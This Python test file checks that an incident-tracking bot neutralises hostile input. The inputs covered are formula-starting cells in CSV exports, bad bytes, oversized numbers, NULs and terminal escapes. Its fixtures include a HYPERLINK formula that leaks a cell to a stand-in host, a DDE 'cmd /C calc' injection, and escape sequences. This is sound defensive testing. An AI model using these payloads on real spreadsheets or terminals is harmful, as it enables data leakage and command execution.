"""Hostile input on the way in and out: formulas in exports, bad bytes, NULs, huge numbers."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from bot.commands.context import console_caller
from bot.commands.core import Core
from bot.commands.imports import import_file
from bot.domain.fields import FORMULA_STARTS, clean_text, from_spreadsheet, spreadsheet_safe
from storage import import_formats
from storage.database import open_database
from storage.export import export_incidents
from storage.import_formats import ImportFailed
from storage.models import Incident
from tests.bot.commands.test_core import ask, refused
from tests.conftest import Clock, make_settings

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'=already quoted",
    "''+twice",
)


@settings(derandomize=True, max_examples=500)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\rab ,\"")) | st.text())
def test_spreadsheet_quoting_is_lossless_and_never_a_formula(cell: str) -> None:
    written = spreadsheet_safe(cell)
    assert not written.startswith(FORMULA_STARTS)
    assert from_spreadsheet(written) == cell


async def test_export_neutralises_formulas_and_import_gives_them_back(
    core: Core, tmp_path: Path, sqlite_template: Path
) -> None:
    fields = ("location", "actor", "kind", "source", "notes", "country")
    for n, formula in enumerate(FORMULAS, start=1):
        await core.handle(f"add 2024-07-{n:02d} {fields[n - 1]}:{json.dumps(formula)}", ADMIN)
    async with core.database.read() as session:
        before = sorted(
            (i.occurred_on, i.location, i.actor, i.kind, i.source, i.notes, i.country)
            for i in await session.scalars(select(Incident))
        )
    assert len(before) == len(FORMULAS)
    out = io.StringIO()
    async with core.database.read() as session:
        await export_incidents(session, out, "csv")
    for row in csv.reader(io.StringIO(out.getvalue())):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    target = tmp_path / "target.db"
    shutil.copy(sqlite_template, target)
    url = f"sqlite+aiosqlite:///{target}"
    other = Core(database=open_database(url), settings=make_settings(url), clock=Clock())
    await other.prepare()
    await import_file(other.context, path, file_format=None, series=None, caller=console_caller())
    async with other.database.read() as session:
        after = sorted(
            (i.occurred_on, i.location, i.actor, i.kind, i.source, i.notes, i.country)
            for i in await session.scalars(select(Incident))
        )
    await other.database.dispose()
    assert after == before


def bad_rows(path: Path) -> list[import_formats.RawRow]:
    return [row for row in import_formats.read_rows(path, None, "attacks") if "" in row.values]


def test_a_bad_byte_is_reported_on_its_own_line(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    with path.open("wb") as handle:
        handle.write(b"date,location\n")
        for n in range(2, 100_002):
            handle.write(b"2024-01-01,Base %d\n" % n)
        handle.write(b"2024-01-01,Ba\xffse\n")  # line 100002
        handle.write(b'2024-01-01,"two\nlines \xfe"\n')  # lines 100003-100004
        handle.write(b"2024-01-01,fine\n")
    found = bad_rows(path)
    assert [row.where for row in found] == ["line 100002", "line 100004"]
    assert "is not UTF-8 (byte 0xff at column 14)" in found[0].values[""]


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("[" * 100_000 + "]" * 100_000, "nest too deeply"),
        ('[{"date": "2024-01-01", "quantity": ' + "9" * 5000 + "}]", "not a JSON file"),
        ("[{", "not a JSON file"),
    ],
)
def test_json_that_cannot_be_read_is_a_clear_failure(
    tmp_path: Path, document: str, message: str
) -> None:
    path = tmp_path / "bad.json"
    path.write_text(document, encoding="utf-8")
    with pytest.raises(ImportFailed) as failed:
        list(import_formats.read_rows(path, None, "attacks"))
    assert message in str(failed.value)


async def test_bad_counts_and_nested_values_are_refused_by_row(core: Core, tmp_path: Path) -> None:
    path = tmp_path / "counts.json"
    path.write_text(
        json.dumps(
            [
                {"date": "2024-01-01", "quantity": "²"},
                {"date": "2024-01-02", "quantity": 99999999999},
                {"date": "2024-01-03", "killed": "٣"},
                {"date": "2024-01-04", "notes": {"a": [1]}},
            ]
        ),
        encoding="utf-8",
    )
    with pytest.raises(ImportFailed) as failed:
        await import_file(
            core.context, path, file_format=None, series=None, caller=console_caller()
        )
    text = str(failed.value)
    assert "item 1: quantity '²' is not a whole number" in text
    assert "item 2: quantity '99999999999' is too large" in text
    assert "item 3: killed '٣' is not a whole number" in text
    assert "item 4: 'notes': write a text or a number" in text


ADMIN = console_caller()


async def test_numbers_past_32_bits_are_refused_plainly(core: Core) -> None:
    await ask(core, "add 2024-07-16")
    assert "too large" in await refused(core, "add 2024-07-17 quantity:99999999999")
    assert "not an incident id" in await refused(core, "edit 99999999999999999999 kind:x")
    assert "not an incident id" in await refused(core, "delete 99999999999")
    assert "last" in await refused(core, "edit 2147483647 kind:x")


async def test_nul_bytes_and_terminal_escapes_never_reach_the_database(
    core: Core, tmp_path: Path
) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(
        b"date,location,notes\n2024-07-01,Ba\x00se,\x1b[31mred\x1b[0m \x1b]0;title\x07x\n"
    )
    await import_file(core.context, path, file_format=None, series=None, caller=console_caller())
    await ask(core, 'add 2024-07-02 location:"To\x00wer" kind:"\x1b[2Jdrone"')
    async with core.database.read() as session:
        rows = (
            await session.execute(select(Incident.location, Incident.notes, Incident.kind))
        ).all()
    assert sorted(rows, key=str) == sorted(
        [("Base", "red x", None), ("Tower", None, "drone")], key=str
    )
    reply = await ask(core, 'since location:"Ba\x00se" as-of 2024-07-03')
    assert reply.startswith("2 days since the last attack at Base")


def test_clean_text_drops_whole_escape_sequences() -> None:
    assert clean_text("\x1b[1;31mbold\x1b[0m") == "bold"
    assert clean_text("\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\") == "link"
    assert clean_text("a\x9b2Jb\x00c") == "abc"
    assert clean_text("Ürdün \u202eRTL") == "Ürdün \u202eRTL"
